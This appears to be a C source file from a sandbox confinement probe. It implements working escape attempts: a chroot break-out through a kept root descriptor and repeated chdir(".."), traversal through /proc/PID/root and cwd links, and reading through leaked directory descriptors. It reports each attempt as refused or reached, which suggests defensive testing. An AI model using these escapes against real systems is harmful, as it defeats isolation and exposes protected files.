/* Tries ways out by a path or an open folder. */
#define _GNU_SOURCE
#include "probe.h"

#include <ctype.h>
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <limits.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/stat.h>
#include <unistd.h>

#define UP "../../../../../../../../../../../.."

/* chroot(2): "This call does not change the current working directory", nor what is open. PATH: what lies outside. */
int escape_chroot(int argc, char **argv)
{
	int root = open("/", O_RDONLY | O_DIRECTORY);

	(void)argc;
	if (mkdir("/tmp", 0755) && errno != EEXIST)
		return refused("mkdir");
	if (chroot("/tmp") || fchdir(root))
		return refused("chroot");
	for (int i = 0; i < 64; i++)
		if (chdir(".."))
			return refused("chdir");
	if (chroot("."))
		return refused("chroot .");
	return read_at(AT_FDCWD, argv[0]);
}

int read_path(int argc, char **argv)
{
	(void)argc;
	return read_at(AT_FDCWD, argv[0]);
}

/* Opens, and writes nothing. Reached when any of the paths lets itself be opened. */
int open_for_writing(int argc, char **argv)
{
	int verdict = REFUSED;

	for (int i = 0; i < argc; i++) {
		int fd = open(argv[i], O_WRONLY | O_CLOEXEC | O_NOCTTY);

		if (fd < 0) {
			refused("%s", argv[i]);
			continue;
		}
		close(fd);
		verdict = reached("%s", argv[i]);
	}
	return verdict;
}

/* PATH, by the root and the working directory of every process that /proc shows. */
int scan_roots(int argc, char **argv)
{
	static const char *const forms[] = { "/proc/%s/root%s", "/proc/%s/cwd/" UP "%s" };
	DIR *proc = opendir("/proc");
	struct dirent *entry;
	char path[PATH_MAX];

	(void)argc;
	while (proc && (entry = readdir(proc))) {
		for (int i = 0; isdigit(entry->d_name[0]) && i < 2; i++) {
			snprintf(path, sizeof(path), forms[i], entry->d_name, argv[0]);
			if (!access(path, R_OK))
				return read_at(AT_FDCWD, path);
		}
	}
	return refused("no process's root or cwd has %s", argv[0]);
}

/* PATH, upwards from the working directory and from every descriptor that is a folder. Tells of each what it is. */
int scan_descriptors(int argc, char **argv)
{
	DIR *fds = opendir("/proc/self/fd");
	struct dirent *entry;
	char path[PATH_MAX], link[PATH_MAX], cwd[PATH_MAX];

	(void)argc;
	printf("cwd %s\n", getcwd(cwd, sizeof(cwd)) ? cwd : "?");
	snprintf(path, sizeof(path), "./" UP "%s", argv[0]);
	if (!access(path, R_OK))
		return read_at(AT_FDCWD, path);
	while (fds && (entry = readdir(fds))) {
		int fd = atoi(entry->d_name);
		ssize_t n;

		if (!isdigit(entry->d_name[0]) || fd == dirfd(fds))
			continue;
		n = readlinkat(dirfd(fds), entry->d_name, link, sizeof(link) - 1);
		printf("fd %d %.*s\n", fd, n < 0 ? 1 : (int)n, n < 0 ? "?" : link);
		if (!faccessat(fd, path, R_OK, 0))
			return read_at(fd, path);
	}
	return refused("no folder leads to %s", argv[0]);
}
